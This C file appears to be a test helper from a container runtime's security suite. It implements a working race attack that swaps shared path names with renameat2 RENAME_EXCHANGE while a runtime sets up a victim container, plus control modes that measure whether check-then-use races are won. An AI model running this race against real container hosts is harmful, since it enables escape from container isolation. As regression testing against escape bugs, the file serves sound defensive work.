// SPDX-License-Identifier: Apache-2.0
/* cerberus-race-attack: the racing half of the mount and /dev attacks of
 * tests/security/cve_escape.sh. It runs in an attacker container that shares
 * a directory (a volume, or the victim's root) with a victim the runtime is
 * setting up, and swaps names in it while the runtime works. Static, so it
 * needs nothing from the container's root. One line of output per run:
 *
 *   exchange GO SETTLED SECONDS A1 B1 [A2 B2 ...]
 *       while the file GO exists, swap each pair (renameat2 RENAME_EXCHANGE)
 *       round robin; once GO is gone, swap back every pair swapped an odd
 *       number of times, so each name holds what it held at first, and create
 *       SETTLED (removed again when GO comes back). Ends after SECONDS.
 *   sample SECONDS PATH
 *       lstat PATH for SECONDS and count what it was: the control that a
 *       racer really flips it.
 *   checkuse SECONDS PATH
 *       for SECONDS, check that PATH is a directory (lstat), then open it by
 *       name and compare: a runtime that checks a path and then uses it by
 *       name, as a mount by path does. Counts how often the racer got in
 *       between: the control that the attack works against such a runtime.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int swap(const char* a, const char* b)
{
    return renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static int exists(const char* path)
{
    struct stat st;
    return lstat(path, &st) == 0;
}

static int exchange(const char* go, const char* settled, double seconds, char** names, int pairs)
{
    int* odd = calloc((size_t)pairs, sizeof(int));
    long swaps = 0, failures = 0, settles = 0;
    double end = now() + seconds;
    int is_settled = 0;
    while (now() < end) {
        if (exists(go)) {
            if (is_settled) {
                unlink(settled);
                is_settled = 0;
            }
            for (int round = 0; round < 64; ++round)
                for (int i = 0; i < pairs; ++i) {
                    if (swap(names[2 * i], names[2 * i + 1]) == 0) {
                        odd[i] ^= 1;
                        ++swaps;
                    } else {
                        ++failures;
                    }
                }
            continue;
        }
        if (!is_settled) {
            int left = 0;
            for (int i = 0; i < pairs; ++i)
                if (odd[i] && swap(names[2 * i], names[2 * i + 1]) == 0)
                    odd[i] = 0;
            for (int i = 0; i < pairs; ++i)
                left += odd[i];
            if (left == 0) {
                int fd = open(settled, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
                if (fd >= 0)
                    close(fd);
                is_settled = 1;
                ++settles;
            }
        }
        usleep(1000);
    }
    printf("exchange: swaps=%ld failures=%ld settles=%ld\n", swaps, failures, settles);
    free(odd);
    return 0;
}

static int sample(double seconds, const char* path)
{
    long dir = 0, link = 0, other = 0, missing = 0;
    double end = now() + seconds;
    while (now() < end) {
        struct stat st;
        if (lstat(path, &st) != 0)
            ++missing;
        else if (S_ISDIR(st.st_mode))
            ++dir;
        else if (S_ISLNK(st.st_mode))
            ++link;
        else
            ++other;
    }
    printf("sample %s: dir=%ld link=%ld other=%ld missing=%ld\n", path, dir, link, other, missing);
    return 0;
}

static int checkuse(double seconds, const char* path)
{
    long attempts = 0, won = 0;
    double end = now() + seconds;
    while (now() < end) {
        struct stat checked, used;
        if (lstat(path, &checked) != 0 || !S_ISDIR(checked.st_mode))
            continue;
        ++attempts;
        int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (fstat(fd, &used) == 0 && (used.st_ino != checked.st_ino || used.st_dev != checked.st_dev))
            ++won;
        close(fd);
    }
    printf("checkuse %s: attempts=%ld won=%ld\n", path, attempts, won);
    return 0;
}

int main(int argc, char** argv)
{
    if (argc >= 7 && strcmp(argv[1], "exchange") == 0 && (argc - 5) % 2 == 0)
        return exchange(argv[2], argv[3], atof(argv[4]), argv + 5, (argc - 5) / 2);
    if (argc == 4 && strcmp(argv[1], "sample") == 0)
        return sample(atof(argv[2]), argv[3]);
    if (argc == 4 && strcmp(argv[1], "checkuse") == 0)
        return checkuse(atof(argv[2]), argv[3]);
    fprintf(stderr, "usage: cerberus-race-attack exchange GO SETTLED SECONDS A B [A B ...]\n"
                    "       cerberus-race-attack sample SECONDS PATH\n"
                    "       cerberus-race-attack checkuse SECONDS PATH\n");
    return 2;
}
